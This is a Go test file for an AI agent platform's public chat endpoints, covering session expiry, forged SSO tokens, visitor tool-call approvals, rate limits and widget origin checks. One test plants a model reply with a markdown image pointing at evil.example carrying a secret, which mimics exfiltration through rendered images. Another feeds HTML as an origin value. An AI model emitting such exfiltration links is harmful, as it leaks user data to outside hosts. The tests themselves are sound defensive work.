package api_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"go.mongodb.org/mongo-driver/v2/bson"

	"github.com/agentplane/agentplane/api/apitest"
	"github.com/agentplane/agentplane/shared/adapters/provider/providertest"
	"github.com/agentplane/agentplane/shared/kit/secrets"
)

// visitors is an agent's page as its visitors reach it, over the public endpoints only.
type visitors struct {
	b         *bundle
	subdomain string
}

func visitorsOf(t *testing.T, a chatAPI) visitors {
	t.Helper()
	bot := a.b.client.Do(apitest.Request{Method: http.MethodGet, Path: "/v1/bot/read?" + a.query(""), Key: a.b.key}).JSON(t)["bot"].(map[string]any)
	return visitors{b: a.b, subdomain: bot["subdomain"].(string)}
}

// open asks for a session from the client address addr ("" for the test's own).
func (v visitors) open(addr string, body map[string]any) *apitest.Response {
	body["subdomain"] = v.subdomain
	return v.b.client.Do(apitest.Request{Method: http.MethodPost, Path: "/public/v1/session", Body: body, Header: from(addr)})
}

// session opens an anonymous session from addr and returns its token.
func (v visitors) session(t *testing.T, addr string) string {
	t.Helper()
	res := v.open(addr, map[string]any{})
	expect(t, res, http.StatusOK, "")
	return res.JSON(t)["token"].(string)
}

// chat posts body to the public chat with token from addr: the answer (an event stream when 200).
func (v visitors) chat(t *testing.T, token, addr string, body map[string]any) *apitest.Response {
	t.Helper()
	raw, _ := json.Marshal(body)
	req, _ := http.NewRequest(http.MethodPost, v.b.client.URL+"/public/v1/chat", bytes.NewReader(raw))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+token)
	if addr != "" {
		req.Header.Set("X-Forwarded-For", addr)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	got, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return &apitest.Response{Status: res.StatusCode, Header: res.Header, Body: got}
}

func (v visitors) history(token, chatID string) *apitest.Response {
	return v.b.client.Do(apitest.Request{Method: http.MethodGet, Path: "/public/v1/history?chat_id=" + chatID, Key: token})
}

// from names the client address addr as a proxy in front of the API does.
func from(addr string) map[string]string {
	if addr == "" {
		return nil
	}
	return map[string]string{"X-Forwarded-For": addr}
}

// newAddress is a client address no other test uses.
func newAddress() string {
	b := make([]byte, 3)
	_, _ = rand.Read(b)
	return fmt.Sprintf("10.%d.%d.%d", b[0], b[1], b[2])
}

func decode(t *testing.T, raw string, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(raw), v); err != nil {
		t.Fatalf("%v: %s", err, raw)
	}
}

// done is the payload of a public chat's done event.
func done(t *testing.T, res *apitest.Response) string {
	t.Helper()
	body := string(res.Body)
	i := strings.Index(body, "event: done\ndata: ")
	if res.Status != http.StatusOK || i < 0 {
		t.Fatalf("no done event: %d %s", res.Status, body)
	}
	body = body[i+len("event: done\ndata: "):]
	return body[:strings.Index(body, "\n")]
}

// A session token lasts an hour: the same token the server signs, its expiry an hour behind,
// is refused as expired; with its expiry ahead it reaches the visitor's chats.
func TestExpiredSessionRefused(t *testing.T) {
	t.Parallel()
	b := setup(t)
	v := visitorsOf(t, b.chatBot(t, nil))
	token := v.session(t, "")
	key, err := secrets.Derive(testSecretsKey, "end-user-sessions")
	if err != nil {
		t.Fatal(err)
	}
	resign := func(at time.Time) string {
		claims := jwt.MapClaims{}
		if _, err := jwt.ParseWithClaims(token, claims, func(*jwt.Token) (any, error) { return key, nil }); err != nil {
			t.Fatal(err)
		}
		claims["iat"], claims["exp"] = at.Add(-time.Hour).Unix(), at.Unix()
		signed, err := jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString(key)
		if err != nil {
			t.Fatal(err)
		}
		return signed
	}
	expect(t, v.history(resign(time.Now().Add(time.Hour)), "no-such-chat"), http.StatusNotFound, "chat_not_found")
	expired := v.history(resign(time.Now().Add(-time.Second)), "no-such-chat")
	expect(t, expired, http.StatusUnauthorized, "invalid_session")
	if !strings.Contains(string(expired.Body), "expired") {
		t.Fatalf("an expired session: %s", expired.Body)
	}
}

// A sign-in token is refused unless it holds: signed with the agent's SSO secret of now (not
// another, not the one before), an expiry at most an hour ahead, not issued or valid only more
// than an hour from now, saying who signs in, and with claims of bounded size.
func TestSignInRefusals(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.chatBot(t, map[string]any{"require_login": 1})
	v := visitorsOf(t, a)
	newSecret := func() string {
		res := b.client.Do(apitest.Request{Method: http.MethodPost, Path: "/v1/bot/sso-secret", Key: b.key, Body: map[string]any{"project_id": b.project.ID, "bot_id": a.botID}})
		expect(t, res, http.StatusOK, "")
		return res.JSON(t)["sso_secret"].(string)
	}
	old := newSecret()
	secret := newSecret()
	now := time.Now()
	ada := func(extra jwt.MapClaims) jwt.MapClaims {
		c := jwt.MapClaims{"external_id": "u-42", "email": "ada@example.com", "name": "Ada", "exp": now.Add(30 * time.Minute).Unix()}
		for k, v := range extra {
			if v == nil {
				delete(c, k)
			} else {
				c[k] = v
			}
		}
		return c
	}
	long := strings.Repeat("a", 201)
	for _, tt := range []struct {
		name, token string
		status      int
		code        string
	}{
		{"NoToken", "", http.StatusUnauthorized, "login_required"},
		{"Expired", ssoToken(t, secret, ada(jwt.MapClaims{"exp": now.Add(-time.Minute).Unix()})), http.StatusUnauthorized, "invalid_sso_token"},
		{"AnotherSecret", ssoToken(t, "not the agent's secret", ada(nil)), http.StatusUnauthorized, "invalid_sso_token"},
		{"TheSecretBefore", ssoToken(t, old, ada(nil)), http.StatusUnauthorized, "invalid_sso_token"},
		{"ExpiresTooLate", ssoToken(t, secret, ada(jwt.MapClaims{"exp": now.Add(2 * time.Hour).Unix()})), http.StatusUnauthorized, "invalid_sso_token"},
		{"IssuedTooLate", ssoToken(t, secret, ada(jwt.MapClaims{"iat": now.Add(2 * time.Hour).Unix()})), http.StatusUnauthorized, "invalid_sso_token"},
		{"ValidTooLate", ssoToken(t, secret, ada(jwt.MapClaims{"nbf": now.Add(2 * time.Hour).Unix()})), http.StatusUnauthorized, "invalid_sso_token"},
		{"NoExpiry", ssoToken(t, secret, ada(jwt.MapClaims{"exp": nil})), http.StatusUnauthorized, "invalid_sso_token"},
		{"NobodySaid", ssoToken(t, secret, ada(jwt.MapClaims{"external_id": nil, "email": nil})), http.StatusUnauthorized, "invalid_sso_token"},
		{"NameTooLong", ssoToken(t, secret, ada(jwt.MapClaims{"name": long})), http.StatusUnprocessableEntity, "invalid_field"},
		{"EmailTooLong", ssoToken(t, secret, ada(jwt.MapClaims{"email": strings.Repeat("a", 243) + "@example.com"})), http.StatusUnprocessableEntity, "invalid_field"},
		{"ExternalIDTooLong", ssoToken(t, secret, ada(jwt.MapClaims{"external_id": long})), http.StatusUnprocessableEntity, "invalid_field"},
		{"TokenTooLong", ssoToken(t, secret, ada(jwt.MapClaims{"padding": strings.Repeat("x", 9000)})), http.StatusUnprocessableEntity, "invalid_field"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := v.open("", map[string]any{"sso_token": tt.token})
			expect(t, res, tt.status, tt.code)
			if tt.status == http.StatusUnprocessableEntity && !strings.Contains(string(res.Body), "sso_token") {
				t.Fatalf("the refusal does not name the claim: %s", res.Body)
			}
		})
	}
	at200 := strings.Repeat("a", 200)
	expect(t, v.open("", map[string]any{"sso_token": ssoToken(t, secret, ada(jwt.MapClaims{"name": at200, "external_id": at200}))}), http.StatusOK, "")
	expect(t, v.open("", map[string]any{"sso_token": ssoToken(t, secret, ada(jwt.MapClaims{"iat": now.Add(30 * time.Second).Unix()}))}), http.StatusOK, "")
}

// A subscriber id is no identity: the id of a visitor who signed in needs their sign-in token
// again, and once the agent requires sign-in, sessions opened anonymously before are refused
// while signed-in ones go on.
func TestSubscriberIDIsNoIdentity(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.chatBot(t, nil)
	v := visitorsOf(t, a)
	res := b.client.Do(apitest.Request{Method: http.MethodPost, Path: "/v1/bot/sso-secret", Key: b.key, Body: map[string]any{"project_id": b.project.ID, "bot_id": a.botID}})
	expect(t, res, http.StatusOK, "")
	secret := res.JSON(t)["sso_secret"].(string)
	signedIn := v.open("", map[string]any{"sso_token": ssoToken(t, secret, jwt.MapClaims{"external_id": "u-7", "name": "Grace", "exp": time.Now().Add(time.Minute).Unix()})})
	expect(t, signedIn, http.StatusOK, "")
	grace := signedIn.JSON(t)

	expect(t, v.open("", map[string]any{"subscriber_id": grace["subscriber_id"]}), http.StatusUnauthorized, "sso_required")
	anonymous := v.session(t, "")
	expect(t, v.history(anonymous, "no-such-chat"), http.StatusNotFound, "chat_not_found")

	expect(t, b.client.Do(apitest.Request{Method: http.MethodPut, Path: "/v1/bot/update", Key: b.key, Body: a.body(map[string]any{"require_login": 1})}), http.StatusOK, "")
	expect(t, v.history(anonymous, "no-such-chat"), http.StatusUnauthorized, "login_required")
	expect(t, v.history(grace["token"].(string), "no-such-chat"), http.StatusNotFound, "chat_not_found")
}

// Visitors decide on their runs' tool calls only when the agent lets them (visitor_approvals),
// and then only on runs of their own chats; otherwise the run waits for the account, which
// decides with its API key. An agent whose reasoning_type is standard answers a visitor with one
// model call, however the message reads.
func TestVisitorApprovals(t *testing.T) {
	t.Parallel()
	b, a, fake := agentSetup(t, map[string]any{"visitor_approvals": true})
	v := visitorsOf(t, a)
	ask := map[string]any{"message": "Add a deal for Acme to the CRM"}

	fake.Set(providertest.Behavior{Script: []providertest.Turn{call("create_deal", `{"title":"Acme"}`), {Reply: "Added the Acme deal."}}})
	mine, stranger := v.session(t, ""), v.session(t, newAddress())
	var paused struct {
		ChatID      string `json:"chat_id"`
		WaitingFor  string `json:"waiting_for"`
		ExecutionID string `json:"execution_id"`
	}
	decode(t, done(t, v.chat(t, mine, "", ask)), &paused)
	if paused.WaitingFor != "create_deal" || paused.ExecutionID == "" {
		t.Fatalf("the run does not wait for the visitor: %+v", paused)
	}
	decide := map[string]any{"execution_id": paused.ExecutionID, "approve": true}
	expect(t, v.chat(t, stranger, "", decide), http.StatusNotFound, "execution_not_found")
	if reply := done(t, v.chat(t, mine, "", decide)); !strings.Contains(reply, "Added the Acme deal.") {
		t.Fatalf("after the visitor approved: %s", reply)
	}

	t.Run("TheAccountDecides", func(t *testing.T) {
		expect(t, b.client.Do(apitest.Request{Method: http.MethodPut, Path: "/v1/bot/update", Key: b.key, Body: a.body(map[string]any{"visitor_approvals": false})}), http.StatusOK, "")
		fake.Set(providertest.Behavior{Script: []providertest.Turn{call("create_deal", `{"title":"Bolt"}`), {Reply: "Added the Bolt deal."}}})
		var waiting struct {
			ChatID      string `json:"chat_id"`
			WaitingFor  string `json:"waiting_for"`
			ExecutionID string `json:"execution_id"`
			HTML        string `json:"html"`
		}
		token := v.session(t, "")
		decode(t, done(t, v.chat(t, token, "", map[string]any{"message": "Add a deal for Bolt to the CRM"})), &waiting)
		if waiting.WaitingFor != "create_deal" || waiting.ExecutionID != "" || !strings.Contains(waiting.HTML, "team") {
			t.Fatalf("the run that waits for the account: %+v", waiting)
		}
		expect(t, v.chat(t, token, "", map[string]any{"execution_id": paused.ExecutionID, "approve": false}), http.StatusForbidden, "visitor_approvals_off")
		var run struct {
			ID string `bson:"_id"`
		}
		if err := b.db.Collection("executions").FindOne(context.Background(), bson.D{{Key: "chat_id", Value: waiting.ChatID}}).Decode(&run); err != nil {
			t.Fatal(err)
		}
		res, chat := a.executeTool(t, map[string]any{"execution_id": run.ID, "approve": true})
		if chat == nil || !strings.Contains(fmt.Sprint(chat["reply"]), "Added the Bolt deal.") {
			t.Fatalf("the account approved: %d %s", res.Status, res.Body)
		}
	})

	t.Run("StandardAgent", func(t *testing.T) {
		s := b.chatBot(t, map[string]any{"reasoning_type": "standard", "provider_key": "sk-run-key"})
		fake.Set(providertest.Behavior{Reply: "A standard answer."})
		before := len(fake.Requests())
		reply := done(t, v.chat(t, visitorsOf(t, s).session(t, ""), "", ask))
		if !strings.Contains(reply, "A standard answer.") || strings.Contains(reply, "waiting_for") {
			t.Fatalf("a standard agent's answer: %s", reply)
		}
		for _, r := range fake.Requests()[before:] {
			if len(r.Tools) > 0 {
				t.Fatalf("a standard agent offered the model tools: %v", r.Tools)
			}
		}
	})
}

// The end users' endpoints are limited per client address, whatever the session and the agent,
// and per agent, whatever the address, each answering 429 with Retry-After; opening sessions
// keeps no subscriber: a visitor is kept from their first message.
func TestPublicLimits(t *testing.T) {
	t.Parallel()
	b, a, fake := agentSetup(t, nil, withPublicLimits(4, 6))
	fake.Set(providertest.Behavior{Reply: "Hello."})
	v, other := visitorsOf(t, a), visitorsOf(t, b.chatBot(t, nil))
	subscribers := func() int {
		t.Helper()
		res := b.client.Do(apitest.Request{Method: http.MethodGet, Path: "/v1/bot/subscriber/readall?" + a.query(""), Key: b.key})
		expect(t, res, http.StatusOK, "")
		return int(res.JSON(t)["total"].(float64))
	}
	refused := func(res *apitest.Response, code string) {
		t.Helper()
		expect(t, res, http.StatusTooManyRequests, code)
		if retry, err := strconv.Atoi(res.Header.Get("Retry-After")); err != nil || retry < 1 || retry > 60 {
			t.Fatalf("Retry-After %q", res.Header.Get("Retry-After"))
		}
	}

	here := newAddress()
	token := v.session(t, here)
	for range 2 {
		v.session(t, here)
	}
	if n := subscribers(); n != 0 {
		t.Fatalf("sessions kept %d subscribers before anyone wrote", n)
	}
	if reply := done(t, v.chat(t, token, here, map[string]any{"message": "Hi"})); !strings.Contains(reply, "Hello.") {
		t.Fatalf("the first message: %s", reply)
	}
	if n := subscribers(); n != 1 {
		t.Fatalf("%d subscribers after one visitor wrote", n)
	}
	refused(v.open(here, map[string]any{}), "rate_limited")
	refused(v.chat(t, token, here, map[string]any{"message": "Hi again"}), "rate_limited")
	// Another address may go on, to the agent's limit of all its visitors; another agent too.
	there := newAddress()
	v.session(t, there)
	v.session(t, there)
	refused(v.open(there, map[string]any{}), "agent_rate_limited")
	other.session(t, there)
}

// An image in a reply shows as a link to it, in the stream's answer and in the history, and the
// page loads images only from the server and the agent's logo and favicon: a reply cannot make
// a visitor's browser fetch a URL carrying what the reply holds.
func TestRepliesFetchNoImages(t *testing.T) {
	t.Parallel()
	b, a, fake := agentSetup(t, map[string]any{"branding": map[string]any{"logo": map[string]any{"enabled": true, "url": "https://cdn.example.com/logo.png"}}})
	v := visitorsOf(t, a)
	fake.Set(providertest.Behavior{Reply: "Here: ![chart](https://evil.example/leak?secret=s3cr3t)"})
	token := v.session(t, "")
	var reply struct {
		ChatID string `json:"chat_id"`
		HTML   string `json:"html"`
	}
	decode(t, done(t, v.chat(t, token, "", map[string]any{"message": "Show me the chart"})), &reply)
	history := v.history(token, reply.ChatID)
	expect(t, history, http.StatusOK, "")
	for _, html := range []string{reply.HTML, string(history.Body)} {
		if strings.Contains(html, "<img") || strings.Contains(html, `\u003cimg`) || !strings.Contains(html, "https://evil.example/leak?secret=s3cr3t") {
			t.Fatalf("the reply as the page shows it: %s", html)
		}
	}
	res, err := http.Get(b.client.URL + "/a/" + v.subdomain)
	if err != nil {
		t.Fatal(err)
	}
	_ = res.Body.Close()
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src 'self' data: https://cdn.example.com;") {
		t.Fatalf("the page's policy: %s", csp)
	}
}

// The widget on a site the agent does not allow gets, in its panel, a notice naming the origin
// to allow and nothing of the agent; the widget says it in the console.
func TestWidgetOnASiteNotAllowed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	a := b.chatBot(t, map[string]any{"name": "Acme Secret Helper", "allowed_origins": []string{"https://shop.example.com"}})
	v := visitorsOf(t, a)
	for _, tt := range []struct{ origin, named string }{
		{"https://elsewhere.example", "https://elsewhere.example"},
		{"<b>Call us</b>", "this site"},
	} {
		res, err := http.Get(b.client.URL + "/a/" + v.subdomain + "?embed=1&origin=" + url.QueryEscape(tt.origin))
		if err != nil {
			t.Fatal(err)
		}
		page, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusOK || !strings.HasSuffix(res.Header.Get("Content-Security-Policy"), "frame-ancestors *") ||
			!strings.Contains(string(page), "This site ("+tt.named+") may not show this agent: add it to the agent's <code>allowed_origins</code>") ||
			strings.Contains(string(page), "Acme Secret Helper") || strings.Contains(string(page), `id="ask"`) {
			t.Fatalf("embedded by %s: %d %s\n%s", tt.origin, res.StatusCode, res.Header.Get("Content-Security-Policy"), page)
		}
	}
	for path, says := range map[string]string{
		"/widget.js":  "} else if (d.type === 'agentplane:refused') {\n      console.warn(d.text);",
		"/web/app.js": "const text = `agentplane: add ${refused} to the agent's allowed_origins",
	} {
		res, err := http.Get(b.client.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		script, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		if !strings.Contains(string(script), says) {
			t.Fatalf("%s does not tell of an origin not allowed:\n%s", path, script)
		}
	}
}

// A project's visitors have as many turns in progress as an account has requests, apart from
// the account's own: with a budget of 1 and a visitor's chat held open by a model that answers
// slowly, another visitor's message waits its turn and is answered 429 visitors_busy, while the
// account is served; once the chat ends, visitors are served again.
func TestVisitorsBudget(t *testing.T) {
	t.Parallel()
	fake := providertest.New(t)
	fake.Set(providertest.Behavior{Reply: strings.Repeat("word ", 60), Chunks: 60, ChunkDelay: time.Second})
	b := setup(t, withProvider(fake.URL), withAccountBudget(1), withRateLimit(0))
	v := visitorsOf(t, b.chatBot(t, map[string]any{"provider_key": "sk-key"}))

	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, b.client.URL+"/public/v1/chat", strings.NewReader(`{"message":"Hi"}`))
	req.Header.Set("Authorization", "Bearer "+v.session(t, ""))
	req.Header.Set("Content-Type", "application/json")
	held := make(chan struct{})
	go func() {
		defer close(held)
		if res, err := http.DefaultClient.Do(req); err == nil {
			_, _ = io.Copy(io.Discard, res.Body)
			_ = res.Body.Close()
		}
	}()
	t.Cleanup(func() { cancel(); <-held })
	for deadline := time.Now().Add(20 * time.Second); len(fake.Requests()) < 1; waitABit() {
		if time.Now().After(deadline) {
			t.Fatal("the model got no request of the first visitor")
		}
	}

	other := v.session(t, newAddress())
	res := v.chat(t, other, "", map[string]any{"message": "Hello?"})
	expect(t, res, http.StatusTooManyRequests, "visitors_busy")
	if res.Header.Get("Retry-After") != "1" {
		t.Errorf("Retry-After %q, want 1", res.Header.Get("Retry-After"))
	}
	expect(t, b.client.Do(apitest.Request{Method: http.MethodGet, Path: "/v1/projects/" + b.project.ID, Key: b.key}), http.StatusOK, "")

	cancel()
	<-held
	fake.Set(providertest.Behavior{Reply: "Hello."})
	// The server ends the first turn once it sees its client gone.
	for deadline := time.Now().Add(20 * time.Second); ; waitABit() {
		res := v.chat(t, other, "", map[string]any{"message": "Hello?"})
		if res.Status == http.StatusTooManyRequests && time.Now().Before(deadline) {
			continue
		}
		if reply := done(t, res); !strings.Contains(reply, "Hello.") {
			t.Fatalf("once the first chat ended: %s", reply)
		}
		break
	}
}
